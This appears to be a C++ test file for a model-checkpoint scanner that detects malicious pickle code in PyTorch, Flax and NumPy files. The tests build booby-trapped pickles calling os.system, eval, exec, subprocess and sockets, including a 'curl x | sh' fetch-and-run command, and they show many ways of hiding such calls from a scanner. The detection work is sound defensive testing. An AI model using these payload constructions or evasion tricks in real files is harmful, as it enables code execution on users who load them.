#include "libckpt/scan.h"

#include <gmock/gmock.h>

#include <set>

#include "libckpt/open_save.h"
#include "libcore/base/error.h"
#include "tests/libckpt/format/evasions.h"
#include "tests/support/temp_dir.h"

namespace {

using ckpt::ScanResult;
using ckpt::SymbolVerdict;
using ::testing::AnyOf;
using ::testing::Contains;
using ::testing::Field;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

class Scan : public ::testing::Test {
 protected:
  ScanResult scanned(const std::string& content, const std::string& name = "a.pth") {
    test::write_file(dir_.path() / name, content);
    return ckpt::scan(dir_.path() / name);
  }
  bool verify_finds(const std::string& name) {
    try {
      ckpt::VerifyResult result = ckpt::verify(dir_.path() / name);
      return !result.damage.empty();
    } catch (const core::Error& error) {
      return error.code() != core::ErrorCode::internal;
    }
  }

  test::TempDir dir_;
};

std::vector<std::string> all_symbols(const ScanResult& result) {
  std::vector<std::string> names;
  for (const ckpt::ScannedPickle& pickle : result.pickles) {
    for (const ckpt::ScannedSymbol& symbol : pickle.symbols) names.push_back(symbol.name);
  }
  return names;
}

bool holds_call(const std::string& bytes) {
  return bytes.find("posix") != std::string::npos && bytes.find("system") != std::string::npos;
}

TEST_F(Scan, EveryFamilyOfEvasionsIsCaught) {
  std::set<int> families;
  for (const test::Evasion& evasion : test::all_evasions()) {
    SCOPED_TRACE(std::to_string(evasion.family) + ": " + evasion.what);
    families.insert(evasion.family);
    EXPECT_FALSE(scanned(evasion.bytes, evasion.file_name).clean());
    EXPECT_TRUE(verify_finds(evasion.file_name));
  }
  for (int family = 1; family <= 18; ++family) EXPECT_TRUE(families.contains(family)) << family;
}

/// Except where the file is no pickle at all, the harmful call is listed by its name, not only as an oddity.
TEST_F(Scan, HarmfulCallsAreListedByName) {
  for (const test::Evasion& evasion : test::all_evasions()) {
    if (!holds_call(evasion.bytes)) continue;
    bool early = evasion.family == 11 || evasion.family == 15 || evasion.what == "a computed name" ||
                 evasion.what == "PERSID in a zip" || evasion.what == "after a stream";  // the error stands before it
    if (early) continue;
    SCOPED_TRACE(std::to_string(evasion.family) + ": " + evasion.what);
    EXPECT_THAT(all_symbols(scanned(evasion.bytes, evasion.file_name)), Contains("posix.system"));
  }
}

TEST_F(Scan, PlainFilesAreClean) {
  std::string object =
      test::pickled_dict({{test::text("w"), test::tensor(test::storage("FloatStorage", "0", 2), 0, {2}, {1})}});
  ScanResult zip = scanned(test::torch_zip(test::pickle(object), {test::floats({1, 2})}).bytes());
  EXPECT_TRUE(zip.clean());
  EXPECT_EQ(zip.content, "torch-zip");
  ASSERT_EQ(zip.pickles.size(), 1U);
  EXPECT_TRUE(zip.pickles[0].complete);
  EXPECT_TRUE(scanned(test::legacy_stream(object, {{"0", 2, test::floats({1, 2})}})).clean());
  EXPECT_TRUE(scanned(test::harmless_pickle(), "a.pkl").clean());
}

TEST_F(Scan, APickleThatIsATreeOfFlaxAsWellIsListed) {
  const std::string array = std::string("\xc7\x15\x01\x93\x91\x02\xa7") + "float32" + "\xc4\x08" + "abcdefgh";
  // A dict of 14 to flax; a long run of bytes to pickle, which drops it, and numbers that are opcodes.
  const std::string head = "\x8e" + test::raw(std::uint64_t{array.size() + 1}) + "\x01" + array;
  const std::string call = "00cos\nsystem\n(Vwww\ntR.";
  ScanResult result = scanned(head + "N0N0N0N0N0N0N0N0N" + "\x8c\x01" + "a" + call, "a.msgpack");
  EXPECT_EQ(result.content, "flax");
  EXPECT_THAT(all_symbols(result), Contains("os.system"));
  EXPECT_EQ(result.verdict(), "dangerous");
}

TEST_F(Scan, NoListHidesARecord) {
  const std::string list = R"({"config":{"w":{"path_name":"b","use_pickle":false}}})";
  test::ZipSpec elsewhere;  // not where torch.export looks for its lists
  elsewhere.add("x/a_weights_config.json", list);
  elsewhere.add("x/b", test::harmful_pickle());
  EXPECT_THAT(all_symbols(scanned(elsewhere.bytes(), "a.zip")), Contains("posix.system"));
  const std::string header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
  test::ZipSpec objects;  // NumPy loads a record by how it begins
  objects.add("x/data/weights/a_weights_config.json", list);
  objects.add("x/data/weights/b", std::string("\x93NUMPY\x01\0", 8) +
                                      test::raw(static_cast<std::uint16_t>(header.size())) + header +
                                      test::harmful_pickle());
  EXPECT_THAT(all_symbols(scanned(objects.bytes(), "a.npz")), Contains("posix.system"));
}

TEST_F(Scan, AListOfOtherFormHidesNothing) {
  for (const char* list :
       {"5", "{}", R"({"config":5})", R"({"config":{"w":5}})", R"({"config":{"w":{"path_name":5,"use_pickle":false}}})",
        R"({"config":{"w":{"path_name":"b","use_pickle":false},"v":{"path_name":"c"}}})"}) {
    test::ZipSpec zip;
    zip.add("x/data/weights/a_weights_config.json", list);
    zip.add("x/data/weights/b", test::harmful_pickle());
    EXPECT_THAT(all_symbols(scanned(zip.bytes(), "a.pt2")), Contains("posix.system")) << list;
  }
}

TEST_F(Scan, SymbolsAreMarked) {
  std::string object = test::list({test::symbol("collections", "OrderedDict") + ")R",
                                   test::call(test::symbol("pathlib", "PosixPath"), {test::text("a")}),
                                   test::symbol("my.module", "thing")});
  ScanResult result = scanned(test::pickle(object), "a.pkl");
  ASSERT_EQ(result.pickles.size(), 1U);
  const auto& symbols = result.pickles[0].symbols;
  ASSERT_EQ(symbols.size(), 3U);
  EXPECT_EQ(symbols[0].verdict, SymbolVerdict::allowed);
  EXPECT_EQ(symbols[0].calls, 1U);
  EXPECT_EQ(symbols[1].verdict, SymbolVerdict::inert);
  EXPECT_EQ(symbols[2].verdict, SymbolVerdict::foreign);
  EXPECT_EQ(symbols[2].calls, 0U);
  EXPECT_TRUE(result.complete());
  EXPECT_FALSE(result.clean());
}

TEST_F(Scan, AForeignSymbolAloneIsAFindingNotAnError) {
  ScanResult result = scanned(test::torch_zip(test::harmful_pickle()).bytes());
  EXPECT_TRUE(result.complete());
  EXPECT_THAT(result.findings, Contains(Field(&ckpt::Finding::text, HasSubstr("calls posix.system('true')"))));
}

TEST_F(Scan, WhatIsBehindABrokenMemberIsLookedAt) {
  test::ZipSpec zip = test::torch_zip(test::harmless_pickle());
  zip.add("x/first.pkl", "\x80\x02\xff");
  zip.add("x/second.pkl", test::harmful_pickle());
  ScanResult result = scanned(zip.bytes());
  EXPECT_FALSE(result.complete());
  EXPECT_THAT(all_symbols(result), Contains("posix.system"));
}

TEST_F(Scan, PickledStoragesInsideAPickleAreScanned) {
  std::string inner = test::legacy_head() + test::harmful_pickle() + test::pickle(test::list({}));
  std::string bytes = "B" + test::raw(static_cast<std::uint32_t>(inner.size())) + inner;
  ScanResult result =
      scanned("\x80\x03" + test::call(test::symbol("torch.storage", "_load_from_bytes"), {bytes}) + ".", "a.pkl");
  EXPECT_THAT(all_symbols(result), Contains("posix.system"));
}

TEST_F(Scan, ANameThatPromisesSomethingElseIsAFinding) {
  std::string zip = test::torch_zip(test::harmless_pickle()).bytes();
  EXPECT_TRUE(scanned(zip, "a.ckpt").clean());
  EXPECT_TRUE(scanned(zip, "a").clean());
  EXPECT_THAT(scanned(zip, "a.safetensors").findings,
              Contains(Field(&ckpt::Finding::text, HasSubstr("promises a safetensors file"))));
}

TEST_F(Scan, LimitsEndInNotAnalysed) {
  test::write_file(dir_.path() / "a.pkl", test::pickle(test::list(std::vector<std::string>(100, test::number(1)))));
  ckpt::OpenOptions options;
  options.limits.max_pickle_opcodes = 50;
  EXPECT_FALSE(ckpt::scan(dir_.path() / "a.pkl", options).complete());
  options.limits.max_pickle_opcodes = 5000;
  options.limits.max_pickle_bytes = 100;
  EXPECT_FALSE(ckpt::scan(dir_.path() / "a.pkl", options).complete());
}

TEST_F(Scan, AnIndexStandsForItsShards) {
  std::filesystem::path folder = dir_.path() / "model";
  std::filesystem::create_directory(folder);
  test::write_file(folder / "pytorch_model.bin.index.json", R"({"weight_map": {"w": "pytorch_model-1.bin"}})");
  test::write_file(folder / "pytorch_model-1.bin", test::torch_zip(test::harmful_pickle()).bytes());
  EXPECT_THAT(all_symbols(ckpt::scan(folder)), Contains("posix.system"));
  std::filesystem::remove(folder / "pytorch_model-1.bin");
  EXPECT_FALSE(ckpt::scan(folder).complete());
}

TEST_F(Scan, EveryCutOfAFileIsNotCleared) {
  std::string object =
      test::pickled_dict({{test::text("w"), test::tensor(test::storage("FloatStorage", "0", 2), 0, {2}, {1})}});
  for (const std::string& whole :
       {test::torch_zip(test::pickle(object), {test::floats({1, 2})}).bytes(),
        test::legacy_stream(object, {{"0", 2, test::floats({1, 2})}}), test::harmless_pickle()}) {
    for (std::size_t size = 0; size < whole.size(); ++size) {
      EXPECT_FALSE(scanned(whole.substr(0, size)).clean()) << size;
    }
  }
}

/// Each way of a pickle to call something, with what the finding must say.
TEST_F(Scan, AttacksAreToldApartAndShownWithTheirArguments) {
  auto short_symbol = [](const std::string& module, const std::string& name) {
    return test::short_text(module) + test::short_text(name) + "\x93";
  };
  std::string id = test::text("id");
  std::string inner = test::pickle(test::harmful_call("os", "popen"));
  std::string inner_bytes = "B" + test::raw(static_cast<std::uint32_t>(inner.size())) + inner;
  const std::vector<std::pair<std::string, std::string>> cases = {
      {test::call(test::symbol("os", "system"), {test::text("curl x | sh\x1b[2J")}),
       "os.system('curl x | sh\\x1b[2J')"},
      {test::call(test::symbol("__builtin__", "eval"), {id}), "builtins.eval('id')"},
      {test::call(test::symbol("builtins", "exec"), {id}), "builtins.exec('id')"},
      {test::call(test::symbol("subprocess", "Popen"), {test::list({test::text("sh"), test::text("-c")})}),
       "subprocess.Popen(['sh', '-c'])"},
      {test::call(test::symbol("webbrowser", "open"), {id}), "webbrowser.open('id')"},
      {test::call(test::symbol("runpy", "run_path"), {id}), "runpy.run_path('id')"},
      {test::call(test::symbol("socket", "create_connection"), {test::tuple({id, test::number(80)})}),
       "socket.create_connection(('id', 80))"},
      {test::call(test::symbol("torch.serialization", "load"), {id}), "torch.serialization.load('id')"},
      {test::call(test::symbol("torch.hub", "load"), {id}), "torch.hub.load('id')"},
      // names from the stack, by way of the memo
      {test::short_text("posix") + "q\x01" + "0" + test::short_text("system") + "q\x02" + "0h\x01h\x02\x93" +
           test::tuple({id}) + "R",
       "posix.system('id')"},
      {"(" + id + "ios\nsystem\n", "os.system('id')"},                                 // INST
      {"(" + test::symbol("os", "system") + id + "o", "os.system('id')"},              // OBJ
      {test::symbol("os", "system") + test::tuple({id}) + "\x81", "os.system('id')"},  // NEWOBJ
      {test::symbol("subprocess", "run") + test::tuple({id}) + test::pickled_dict({{test::text("shell"), "\x88"}}) +
           "\x92",
       "subprocess.run('id', **{'shell': True})"},                                                         // NEWOBJ_EX
      {test::call(test::symbol("os", "system"), {id}) + test::pickled_dict({}) + "b", "os.system('id')"},  // BUILD
      {test::call(test::symbol("os", "system"), {id}) + "0N", "os.system('id')"},  // dropped at once
      {test::call(test::symbol("torch", "os.system"), {id}), "torch.os.system('id')"},
      {test::call(short_symbol("builtins", "getattr"), {test::symbol("os", "path"), test::text("join")}), "os.path"},
      {test::call(test::call(test::symbol("builtins", "getattr"), {test::symbol("a", "B"), id}), {id}), "calls"},
      {test::call(test::symbol("_pickle", "loads"), {inner_bytes}), "os.popen('true')"},
      {test::instance(test::symbol("my.net", "Net"), test::call(test::symbol("os", "system"), {id})),
       "os.system('id')"},
  };
  for (const auto& [object, text] : cases) {
    SCOPED_TRACE(text);
    ScanResult result = scanned("\x80\x04" + object + ".", "a.pkl");
    EXPECT_EQ(result.verdict(), "dangerous");
    bool said = false;
    for (std::size_t i = 0; i < result.findings.size(); ++i) {
      bool danger = result.kinds[i] == ckpt::FindingKind::danger;
      said |= danger && result.findings[i].text.find(text) != std::string::npos;
    }
    EXPECT_TRUE(said);
  }
}

TEST_F(Scan, ClassesOfAProjectAreForeignAndNoAttack) {
  for (const auto& [module, name] : std::vector<std::pair<std::string, std::string>>{{"my_project.config", "Config"},
                                                                                     {"__main__", "Net"},
                                                                                     {"__main__", "Outer.Inner"},
                                                                                     {"wandb.sdk", "Config"}}) {
    SCOPED_TRACE(module + "." + name);
    ScanResult result =
        scanned(test::pickle(test::instance(test::symbol(module, name), test::pickled_dict({}))), "a.pkl");
    EXPECT_EQ(result.verdict(), "foreign");
    EXPECT_FALSE(result.has(ckpt::FindingKind::danger));
  }
  ScanResult plain =
      scanned(test::pickle(test::instance(test::symbol("argparse", "Namespace"), test::pickled_dict({}))), "a.pkl");
  EXPECT_EQ(plain.verdict(), "clean");
}

/// A ResNet-18 of torch.jit.save had 53 signs of an attack: the names of its own classes begin with two underscores.
TEST_F(Scan, ClassesOfATorchScriptProgramAreForeignAndNoAttack) {
  auto verdict = [&](const std::string& module, const std::string& name) {
    ScanResult result =
        scanned(test::pickle(test::instance(test::symbol(module, name), test::pickled_dict({}))), "a.pkl");
    return std::string(result.verdict());
  };
  EXPECT_EQ(verdict("__torch__.torchvision.models.resnet", "ResNet"), "foreign");
  EXPECT_EQ(verdict("__torch__.torch.nn.modules.conv.___torch_mangle_0", "Conv2d"), "foreign");
  EXPECT_EQ(verdict("__torch__.net", "Net.__init__"), "dangerous");
  EXPECT_EQ(verdict("net.__torch__", "Net"), "dangerous");
  EXPECT_EQ(verdict("__torch__.os", "system"), "dangerous");
}

TEST_F(Scan, ArgumentsAreShortenedAndTheirWorkIsBounded) {
  std::string deep = test::text(std::string(100000, 'x'));
  for (int i = 0; i < 60; ++i) deep += "q\x01" + std::string("0(h\x01h\x01h\x01h\x01h\x01h\x01t");  // 6^60 as a tree
  ScanResult result = scanned("\x80\x02" + test::call(test::symbol("os", "system"), {deep}) + ".", "a.pkl");
  EXPECT_EQ(result.verdict(), "dangerous");
  for (const ckpt::Finding& finding : result.findings) EXPECT_LE(finding.text.size(), 300U);
}

}  // namespace
